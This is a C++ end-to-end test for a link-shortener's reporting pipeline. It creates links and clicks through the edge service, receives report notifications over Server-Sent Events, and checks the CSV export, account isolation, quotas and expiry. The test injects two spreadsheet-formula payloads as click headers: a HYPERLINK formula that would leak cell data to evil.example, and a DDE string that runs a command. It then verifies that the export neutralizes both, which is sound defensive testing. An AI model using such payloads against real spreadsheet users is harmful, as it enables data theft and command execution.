// End to end through the public HTTP API: the real kurt-edge in front of the real kurt-links,
// kurt-analytics, kurt-reports, kurt-report-worker and kurt-notifications. Create links, click
// them (redirects → Kafka → analytics → raw clicks), request a CSV report, receive its
// notification as a Server-Sent Event, download the CSV and check it against the database.
//
// Callers authenticate as users do: accounts and their API keys are made through the edge with
// the admin token, and every call carries `Authorization: Bearer <key>`. Every binary it runs is
// a build dependency of the test.
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <thread>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"
#include "absl/synchronization/mutex.h"
#include "absl/time/clock.h"
#include "google/protobuf/util/json_util.h"
#include "gtest/gtest.h"
#include "kurt/accounts/v1/accounts.pb.h"
#include "kurt/links/v1/links.pb.h"
#include "kurt/notifications/v1/notifications.pb.h"
#include "kurt/reports/v1/reports.pb.h"
#include "services/reports/report_job.h"
#include "tests/reports/deployment.h"
#include "tests/support/http_client.h"
#include "tests/support/wait_until.h"

namespace kurt::testing {
namespace {

namespace rv1 = kurt::reports::v1;
using kurt::testing::Fetch;
using kurt::testing::Reply;

constexpr char kAdminToken[] = "e2e-admin-token";

struct Account {
  std::string id;
  std::string key;  // the raw API key, shown once
};

// POST /v1/accounts with the admin token, as an operator does.
Account CreateAccount(int port, const std::string& name) {
  Reply r = Fetch(port, "POST", "/v1/accounts",
                  {{"Authorization", absl::StrCat("Bearer ", kAdminToken)},
                   {"Content-Type", "application/json"}},
                  absl::StrCat(R"({"name": ")", name, R"("})"));
  EXPECT_EQ(r.status, 200u) << r.body;
  accounts::v1::CreateAccountResponse created;
  EXPECT_TRUE(google::protobuf::util::JsonStringToMessage(r.body, &created).ok()) << r.body;
  EXPECT_FALSE(created.secret_key().empty()) << r.body;
  return {created.account().id(), created.secret_key()};
}

std::pair<std::string, std::string> Bearer(const Account& a) {
  return {"Authorization", absl::StrCat("Bearer ", a.key)};
}

// An SSE client on a raw socket: sends one GET, then collects the events of the response.
class SseClient {
 public:
  SseClient(int port, const std::string& target,
            const std::vector<std::pair<std::string, std::string>>& headers) {
    fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    addr.sin_port = htons(static_cast<uint16_t>(port));
    connected_ = ::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) == 0;
    std::string req = absl::StrCat("GET ", target, " HTTP/1.1\r\nHost: 127.0.0.1\r\n",
                                   "Accept: text/event-stream\r\n");
    for (const auto& [k, v] : headers) {
      absl::StrAppend(&req, k, ": ", v, "\r\n");
    }
    absl::StrAppend(&req, "\r\n");
    if (connected_) {
      (void)!::write(fd_, req.data(), req.size());
    }
    thread_ = std::thread([this] {
      char buf[8192];
      for (;;) {
        ssize_t n = ::read(fd_, buf, sizeof(buf));
        if (n <= 0) {
          return;
        }
        absl::MutexLock lock(&mu_);
        raw_.append(buf, n);
      }
    });
  }
  ~SseClient() {
    ::shutdown(fd_, SHUT_RDWR);
    thread_.join();
    ::close(fd_);
  }
  std::string Raw() {
    absl::MutexLock lock(&mu_);
    return raw_;
  }
  // The first event whose data contains `needle`: {id, data}.
  std::optional<std::pair<std::string, std::string>> WaitForEvent(const std::string& needle,
                                                                  absl::Duration timeout) {
    const absl::Time deadline = absl::Now() + timeout;
    while (absl::Now() < deadline) {
      std::string raw = Raw();
      std::string id;
      for (absl::string_view line : absl::StrSplit(raw, absl::ByAnyChar("\r\n"))) {
        if (absl::StartsWith(line, "id: ")) {
          id = std::string(line.substr(4));
        }
        if (absl::StartsWith(line, "data: ") && absl::StrContains(line, needle)) {
          return std::make_pair(id, std::string(line.substr(6)));
        }
      }
      absl::SleepFor(absl::Milliseconds(50));
    }
    return std::nullopt;
  }

 private:
  int fd_;
  bool connected_ = false;
  absl::Mutex mu_;
  std::string raw_;
  std::thread thread_;
};

TEST(ReportsEndToEndTest, ThroughTheEdgeFromClicksToTheSseNotificationAndTheCsv) {
  for (const char* binary : {"kurt-edge", "kurt-links", "kurt-analytics", "kurt-reports",
                             "kurt-report-worker", "kurt-notifications", "kurt-accounts"}) {
    ASSERT_EQ(::access(BinaryPath(binary).c_str(), X_OK), 0)
        << BinaryPath(binary) << " is not built (a build dependency of this test)";
  }
  Deployment d;
  const std::string clicks_topic = RandomName("kurt.test.clicks.");
  CreateTopic(clicks_topic, 3);
  // A quota of one report a day, to see its refusal through the edge; the worker's janitor runs
  // every 200 ms, to see a report expire.
  Service& reports = d.StartReports({"--max_reports_per_day=1"});
  d.StartWorker("worker-1", {"--janitor_interval=200ms", "--report_retention=720h"});
  Service& notifications = d.StartNotifications();
  Service& links = d.Start(
      "links", "kurt-links",
      {absl::StrCat("--clicks_topic=", clicks_topic), "--short_url_base=http://kurt.test/"});
  Service& analytics =
      d.Start("analytics", "kurt-analytics",
              {absl::StrCat("--clicks_topic=", clicks_topic),
               absl::StrCat("--dead_letter_topic=", RandomName("kurt.test.clicks.dlq.")),
               absl::StrCat("--consumer_group=", RandomName("kurt-test-analytics-"))});
  // The edge is ready only once every service it routes to answers, accounts included.
  Service& accounts =
      d.Start("accounts", "kurt-accounts", {absl::StrCat("--admin_token=", kAdminToken)});
  Service& edge = d.Start(
      "edge", "kurt-edge",
      // With the redirect cache on (the default): all but the first click of each link are
      // answered by the edge, which reports them to links, so every one is counted.
      // Rate limits stay off: this test is about the workflow, not about throttling.
      {"--edge_port={http_port}", "--io_threads=2", "--rate_per_address=0", "--rate_per_account=0",
       absl::StrCat("--accounts_address=127.0.0.1:", accounts.grpc_port),
       absl::StrCat("--upstream=kurt.links.v1.LinksService=127.0.0.1:", links.grpc_port),
       absl::StrCat("--upstream=kurt.analytics.v1.AnalyticsService=127.0.0.1:",
                    analytics.grpc_port),
       absl::StrCat("--upstream=kurt.reports.v1.ReportsService=127.0.0.1:", reports.grpc_port),
       absl::StrCat("--upstream=kurt.notifications.v1.NotificationsService=127.0.0.1:",
                    notifications.grpc_port),
       absl::StrCat("--upstream=kurt.accounts.v1.AccountsService=127.0.0.1:", accounts.grpc_port)});
  const int port = edge.http_port;
  const Account owner = CreateAccount(port, "e2e");
  ASSERT_FALSE(owner.key.empty());
  const std::string& account = owner.id;
  const std::vector<std::pair<std::string, std::string>> as = {
      Bearer(owner), {"Content-Type", "application/json"}, {"User-Agent", "kurt-e2e-test"}};

  // Links, created through the edge.
  std::vector<std::string> codes;
  for (int i = 0; i < 2; ++i) {
    Reply r = Fetch(port, "POST", "/v1/links", as,
                    absl::StrCat(R"({"targetUrl": "https://example.com/e2e/)", i, R"("})"));
    ASSERT_EQ(r.status, 200u) << r.body << d.Logs();
    links::v1::Link link;
    ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(r.body, &link).ok()) << r.body;
    codes.push_back(link.code());
  }
  // Clicks: redirects through the edge (most answered from its cache), counted by analytics from
  // Kafka into raw clicks.
  constexpr int64_t kClicksPerLink = 25;
  const absl::Time start = absl::Now() - absl::Minutes(1);
  // One referrer and one user agent are formulas, as an attacker would send them to whoever opens
  // the report in a spreadsheet.
  const std::string formula = R"f(=HYPERLINK("http://evil.example/?leak="&A1,"click"))f";
  for (const std::string& code : codes) {
    for (int i = 0; i < kClicksPerLink; ++i) {
      std::vector<std::pair<std::string, std::string>> headers = {{"User-Agent", "kurt-e2e-test"}};
      if (code == codes[0] && i == 3) {
        headers = {{"User-Agent", "@SUM(1+1)*cmd|' /C calc'!A0"}, {"Referer", formula}};
      }
      Reply r = Fetch(port, "GET", absl::StrCat("/", code), headers);
      ASSERT_EQ(r.status, 302u) << r.body;
    }
  }
  const std::string counted = absl::StrCat(
      "SELECT count(*) FROM clicks c JOIN links l ON l.code = c.code WHERE l.account_id = '",
      account, "'");
  const absl::Time deadline = absl::Now() + absl::Seconds(30);
  while (QueryInt(d.db().primary_url(), counted) < 2 * kClicksPerLink && absl::Now() < deadline) {
    absl::SleepFor(absl::Milliseconds(100));
  }
  ASSERT_EQ(QueryInt(d.db().primary_url(), counted), 2 * kClicksPerLink) << d.Logs();
  d.db().WaitForReplica();

  // The notification stream, open before the request.
  SseClient sse(port, "/v1/notifications:stream", {Bearer(owner)});
  absl::SleepFor(absl::Milliseconds(500));

  // The report, requested through the edge: PENDING at once.
  const absl::Time end = absl::Now() + absl::Minutes(1);
  Reply created =
      Fetch(port, "POST", "/v1/reports", as,
            absl::StrCat(R"({"kind": "CLICKS_CSV", "startTime": ")", reports::Rfc3339(start),
                         R"(", "endTime": ")", reports::Rfc3339(end), R"("})"));
  ASSERT_EQ(created.status, 200u) << created.body;
  rv1::Report report;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(created.body, &report).ok());
  EXPECT_EQ(report.state(), rv1::PENDING);
  EXPECT_TRUE(absl::StrContains(created.body, R"("state":"PENDING")")) << created.body;

  // Its own stream follows it to the end, as SSE.
  SseClient watch(port, absl::StrCat("/v1/reports/", report.id(), ":stream"), {Bearer(owner)});
  auto done = watch.WaitForEvent(R"("state":"SUCCEEDED")", absl::Seconds(30));
  ASSERT_TRUE(done.has_value()) << "no SUCCEEDED event on the report's stream:\n" << watch.Raw();
  EXPECT_EQ(done->first, report.id()) << "the SSE id is the report's";

  // Its notification arrives as an SSE event.
  auto event = sse.WaitForEvent(report.id(), absl::Seconds(30));
  ASSERT_TRUE(event.has_value()) << "no SSE event; the stream so far:\n" << sse.Raw() << d.Logs();
  notifications::v1::Notification n;
  ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(event->second, &n).ok()) << event->second;
  EXPECT_EQ(n.report().state(), rv1::SUCCEEDED);
  EXPECT_EQ(n.report().row_count(), 2 * kClicksPerLink);
  EXPECT_EQ(event->first, n.id()) << "the SSE id is the notification id";

  // Status, then the CSV, through the edge; its rows are the database's.
  Reply status = Fetch(port, "GET", absl::StrCat("/v1/reports/", report.id()), as);
  ASSERT_EQ(status.status, 200u) << status.body;
  EXPECT_TRUE(absl::StrContains(status.body, R"("state":"SUCCEEDED")")) << status.body;
  Reply csv = Fetch(port, "GET", n.report().content_path(), as);
  ASSERT_EQ(csv.status, 200u) << csv.body;
  EXPECT_EQ(csv.Header("content-type"), "text/csv");
  EXPECT_EQ(csv.Header("content-disposition"),
            absl::StrCat(R"(attachment; filename="kurt-report-)", report.id(), R"(.csv")"));
  // The formulas arrive as text: a leading single quote, the cell quoted (OWASP).
  EXPECT_TRUE(absl::StrContains(
      csv.body,
      R"csv(,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'@SUM(1+1)*cmd|' /C calc'!A0",)csv"))
      << csv.body;
  EXPECT_FALSE(absl::StrContains(csv.body, ",=HYPERLINK")) << csv.body;
  EXPECT_FALSE(absl::StrContains(csv.body, ",\"=HYPERLINK")) << csv.body;
  EXPECT_EQ(csv.body, ExpectedCsv(d.db().primary_url(), account, start, end));
  EXPECT_EQ(std::count(csv.body.begin(), csv.body.end(), '\n'), 2 * kClicksPerLink + 1);

  // Another account sees neither the report nor its content; no key sees nothing at all.
  const Account stranger = CreateAccount(port, "e2e-stranger");
  EXPECT_EQ(Fetch(port, "GET", n.report().content_path(), {Bearer(stranger)}).status, 404u);
  EXPECT_EQ(
      Fetch(port, "GET", absl::StrCat("/v1/reports/", report.id()), {Bearer(stranger)}).status,
      404u);
  EXPECT_EQ(Fetch(port, "GET", n.report().content_path()).status, 401u);

  // The binaries run with --edge_secret: the account the edge vouched for was believed, but a
  // caller that reaches kurt-reports directly cannot name one without the secret.
  {
    grpc::ClientContext ctx;
    ctx.AddMetadata("x-kurt-account-id", account);
    ctx.set_deadline(absl::ToChronoTime(absl::Now() + absl::Seconds(5)));
    rv1::GetReportRequest get;
    get.set_id(report.id());
    rv1::Report direct;
    grpc::Status refused = d.ReportsStub()->GetReport(&ctx, get, &direct);
    EXPECT_EQ(refused.error_code(), grpc::StatusCode::UNAUTHENTICATED) << refused.error_message();
  }

  // Resuming with Last-Event-ID replays what came after it.
  SseClient resumed(port, "/v1/notifications:stream", {Bearer(owner), {"Last-Event-ID", "0"}});
  auto replayed = resumed.WaitForEvent(report.id(), absl::Seconds(10));
  ASSERT_TRUE(replayed.has_value()) << resumed.Raw();
  EXPECT_EQ(replayed->first, n.id());

  // The account's quota: a second report today is refused with 429, naming the limit, and
  // creates nothing.
  Reply over =
      Fetch(port, "POST", "/v1/reports", as,
            absl::StrCat(R"({"kind": "SUMMARY_JSON", "startTime": ")", reports::Rfc3339(start),
                         R"(", "endTime": ")", reports::Rfc3339(end), R"("})"));
  EXPECT_EQ(over.status, 429u) << over.body;
  EXPECT_TRUE(absl::StrContains(over.body, "may create 1 reports in 24 hours")) << over.body;
  EXPECT_EQ(QueryInt(d.db().primary_url(), "SELECT count(*) FROM report_jobs"), 1);

  // Past the retention period (30 days after it finished) the report expires: its artifact is
  // deleted, its status says EXPIRED and when, and its content is refused saying why.
  const std::string key = QueryValue(d.db().primary_url(), "SELECT artifact_key FROM report_jobs");
  ASSERT_TRUE(std::filesystem::exists(std::filesystem::path(d.artifact_dir()) / key)) << key;
  Exec(d.db().primary_url(), "UPDATE report_jobs SET finish_time = now() - interval '31 days'");
  Reply expired;
  EXPECT_TRUE(WaitUntil(
      [&] {
        expired = Fetch(port, "GET", absl::StrCat("/v1/reports/", report.id()), as);
        return absl::StrContains(expired.body, R"("state":"EXPIRED")");
      },
      absl::Seconds(10)))
      << expired.body << d.Logs();
  EXPECT_TRUE(absl::StrContains(expired.body, R"("expireTime":")")) << expired.body;
  Reply gone = Fetch(port, "GET", n.report().content_path(), as);
  EXPECT_EQ(gone.status, 400u) << gone.body;
  EXPECT_TRUE(absl::StrContains(gone.body, "is EXPIRED: its content was deleted")) << gone.body;
  EXPECT_TRUE(WaitUntil(
      [&] { return !std::filesystem::exists(std::filesystem::path(d.artifact_dir()) / key); },
      absl::Seconds(5)));
}

}  // namespace
}  // namespace kurt::testing
